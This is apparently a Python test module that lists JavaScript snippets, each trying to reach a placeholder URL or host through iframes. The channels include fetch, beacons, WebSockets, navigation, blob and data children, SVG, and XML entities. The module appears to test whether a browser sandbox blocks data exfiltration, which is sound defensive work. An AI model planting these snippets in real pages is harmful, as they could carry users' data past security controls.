"""Ways by a frame or document that the view makes for itself."""

from e2e.exfiltration.ways.way import Way

_BLANK = "const f = document.createElement('iframe'); document.body.append(f);"


def _blank(name: str, script: str) -> Way:
    return Way(f"blank-{name}", script=_BLANK + script)


FRAMES = [
    _blank("fetch", "await f.contentWindow.fetch('$URL');"),
    _blank("image", "new f.contentWindow.Image().src = '$URL';"),
    _blank("websocket", "new f.contentWindow.WebSocket('ws://$HOST/x');"),
    _blank("beacon", "f.contentWindow.navigator.sendBeacon('$URL', 'x');"),
    _blank("event-source", "new f.contentWindow.EventSource('$URL');"),
    _blank("location", "f.contentWindow.location = '$URL';"),
    _blank("location-src", "f.src = '$URL';"),
    _blank("write", "f.contentDocument.write('<img src=$URL>');"),
    _blank("open", "f.contentWindow.open('$URL', '_self');"),
    _blank(
        "script",
        "const s = f.contentDocument.createElement('script'); s.textContent = `fetch('$URL')`;"
        "f.contentDocument.body.append(s);",
    ),
    _blank(
        "link",
        "f.contentDocument.body.innerHTML = '<a href=$URL>x</a>';"
        "f.contentDocument.querySelector('a').click();",
    ),
    _blank(
        "before-append",
        "const g = document.createElement('iframe'); g.src = '$URL';document.body.prepend(g);",
    ),
    Way(
        "sandboxed-child",
        script="const f = document.createElement('iframe'); f.sandbox = 'allow-scripts"
        " allow-same-origin allow-top-navigation allow-popups';"
        "f.srcdoc = `<script>fetch('$URL'); location = '$URL'</scr` + `ipt>`;"
        "document.body.append(f);",
    ),
    Way(
        "blob-child",
        script="const f = document.createElement('iframe');"
        "f.src = URL.createObjectURL(new Blob([`<img src='$URL'>`], {type: 'text/html'}));"
        "document.body.append(f);",
    ),
    Way(
        "blob-child-navigates",
        script="const f = document.createElement('iframe');"
        "f.src = URL.createObjectURL(new Blob([`<script>location = '$URL'</scr` + `ipt>`],"
        "{type: 'text/html'})); document.body.append(f);",
    ),
    Way(
        "data-child-navigates",
        script="const f = document.createElement('iframe');"
        "f.src = 'data:text/html,' + encodeURIComponent("
        "`<script>location = '$URL'</scr` + `ipt>`); document.body.append(f);",
    ),
    Way(
        "xml-stylesheet",
        script="const f = document.createElement('iframe');"
        "f.src = URL.createObjectURL(new Blob(["
        "`<?xml-stylesheet type='text/css' href='$URL'?><x/>`], {type: 'text/xml'}));"
        "document.body.append(f);",
    ),
    Way(
        "xhtml-entity",
        script="const f = document.createElement('iframe');"
        "f.src = URL.createObjectURL(new Blob([`<!DOCTYPE x [<!ENTITY e SYSTEM '$URL'>]><x>&e;</x>`"
        "], {type: 'text/xml'})); document.body.append(f);",
        mute="browsers load no entities",
    ),
    Way(
        "svg-document",
        script="const f = document.createElement('iframe');"
        "f.src = URL.createObjectURL(new Blob([`<svg xmlns='http://www.w3.org/2000/svg'>"
        "<image href='$URL'/></svg>`], {type: 'image/svg+xml'})); document.body.append(f);",
    ),
    Way(
        "fenced-frame",
        script="const f = document.createElement('fencedframe');"
        "f.config = new FencedFrameConfig('$URL'); document.body.append(f);",
        mute="this browser has no such thing here",
    ),
    Way(
        "nested-pagehide",
        script=_BLANK + "f.contentWindow.addEventListener('pagehide',"
        "() => navigator.sendBeacon('$URL')); f.remove();",
    ),
]
